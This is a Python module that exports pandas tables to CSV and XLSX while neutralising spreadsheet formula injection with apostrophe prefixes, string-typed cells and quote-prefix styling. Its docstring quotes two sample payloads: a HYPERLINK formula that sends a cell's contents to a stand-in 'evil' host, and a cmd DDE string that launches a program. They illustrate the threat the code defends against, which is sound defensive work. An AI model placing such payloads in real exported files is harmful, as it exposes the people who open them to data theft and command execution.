"""Safe export of tables to CSV and XLSX: no cell can run as a spreadsheet formula.

Respondent text is untrusted. A cell such as `=HYPERLINK("http://evil/?"&A1)` or
`-2+3+cmd|' /C calc'!A0` runs as a formula when a CSV is opened in Excel or LibreOffice
("CSV injection"). Following OWASP's guidance, every text cell (and every column header) that
starts with = + - @, a tab, a carriage return or a line feed (also after leading spaces, and the
full-width forms ＝ ＋ － ＠) gets a leading apostrophe, which spreadsheets show as text.
Numbers are left alone, and so is text that is just a plain number such as "-5" (it cannot run
anything).
In XLSX every text cell is also written with the string data type (never a formula) and the
"quote prefix" style on neutralised cells, so re-editing it in Excel keeps it text.
"""

from __future__ import annotations

import io
import logging
import math
import re
from collections.abc import Mapping
from datetime import date, datetime, time
from typing import TYPE_CHECKING

import numpy as np
import pandas as pd

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet as Worksheet

logger = logging.getLogger(__name__)

# Characters that make a spreadsheet treat a cell as a formula (OWASP CSV injection), with the
# full-width forms that some spreadsheet versions normalise to them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER_RE = re.compile(r"^[+-]?(?:\d+(?:[.,]\d+)*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?$")
# XML 1.0 cannot hold these control characters; openpyxl refuses them.
_ILLEGAL_XML_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_SHEET_BAD_CHARS_RE = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
MAX_SHEET_NAME = 31


def _needs_quote(text: str) -> bool:
    """True when `text` would be read as a formula by a spreadsheet."""
    if not text:
        return False
    stripped = text.lstrip(" \u00a0\u3000")
    if not stripped:
        return text[0] in FORMULA_TRIGGERS
    if text[0] in FORMULA_TRIGGERS or stripped[0] in FORMULA_TRIGGERS:
        return not _PLAIN_NUMBER_RE.fullmatch(text.strip(" "))
    return False


def neutralise_formula(value: object) -> object:
    """Return `value` with a leading apostrophe if a spreadsheet would run it as a formula."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def _neutralise_frame(df: pd.DataFrame, *, index: bool) -> pd.DataFrame:
    """A copy of `df` with headers and text cells neutralised; numbers and dates untouched."""
    out = df.reset_index() if index else df.copy()
    if isinstance(out.columns, pd.MultiIndex):
        out.columns = [" / ".join(str(p) for p in col if str(p)) for col in out.columns]
    out.columns = [str(neutralise_formula(str(c))) for c in out.columns]
    for pos in range(out.shape[1]):
        col = out.iloc[:, pos]
        if pd.api.types.is_numeric_dtype(col) or pd.api.types.is_datetime64_any_dtype(col):
            continue
        out.iloc[:, pos] = col.map(neutralise_formula).astype(object)
    return out


def safe_csv_bytes(df: pd.DataFrame, *, index: bool = False) -> bytes:
    """CSV as UTF-8 with a byte-order mark (so Excel reads it right), text cells neutralised."""
    safe = _neutralise_frame(df, index=index)
    text = safe.to_csv(index=False, lineterminator="\r\n")
    return text.encode("utf-8-sig")


def sanitise_sheet_name(name: object, used: set[str] | None = None) -> str:
    """A valid, unique Excel sheet name: no []:*?/\\, not blank, at most 31 characters."""
    text = _SHEET_BAD_CHARS_RE.sub(" ", str(name) if name is not None else "")
    text = re.sub(r"\s+", " ", text).strip().strip("'").strip() or "Sheet"
    if text.lower() == "history":  # reserved by Excel
        text = "History data"
    text = text[:MAX_SHEET_NAME].rstrip() or "Sheet"
    if used is not None:
        base, n = text, 2
        while text.lower() in used:
            suffix = f" ({n})"
            text = base[: MAX_SHEET_NAME - len(suffix)] + suffix
            n += 1
        used.add(text.lower())
    return text


def _xlsx_value(value: object) -> object:
    """A value openpyxl can store: None for missing, Python scalars, naive datetimes, clean text."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, np.generic):
        value = value.item()
        if isinstance(value, float) and math.isnan(value):
            return None
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, datetime) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)
    if isinstance(value, (bool, int, float, datetime, date, time)):
        return value
    if isinstance(value, (pd.Timedelta, np.timedelta64)):
        return str(value)
    return _ILLEGAL_XML_RE.sub("\ufffd", str(value))


def safe_xlsx_bytes(
    data: pd.DataFrame | Mapping[str, pd.DataFrame], *, index: bool = False
) -> bytes:
    """XLSX workbook (one sheet per DataFrame) with no formula cells and text neutralised."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    sheets = {"Data": data} if isinstance(data, pd.DataFrame) else dict(data)
    if not sheets:
        sheets = {"Data": pd.DataFrame()}
    wb = Workbook(write_only=True)
    used: set[str] = set()
    for raw_name, frame in sheets.items():
        if not isinstance(frame, pd.DataFrame):
            raise TypeError(f"sheet {raw_name!r}: expected a DataFrame, got {type(frame).__name__}")
        ws = wb.create_sheet(sanitise_sheet_name(raw_name, used))
        safe = _neutralise_frame(frame, index=index)

        def row_cells(values: list[object], ws: Worksheet = ws) -> list[WriteOnlyCell]:
            cells = []
            for v in values:
                cell = WriteOnlyCell(ws, value=None)
                v = _xlsx_value(v)
                if isinstance(v, str):
                    # Assign the string directly with the string type: openpyxl would otherwise
                    # turn a value starting with "=" into a formula.
                    cell._value = v
                    cell.data_type = "s"
                    if v.startswith("'"):
                        cell.quotePrefix = True
                else:
                    cell.value = v
                cells.append(cell)
            return cells

        ws.append(row_cells(list(safe.columns)))
        for row in safe.itertuples(index=False, name=None):
            ws.append(row_cells(list(row)))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
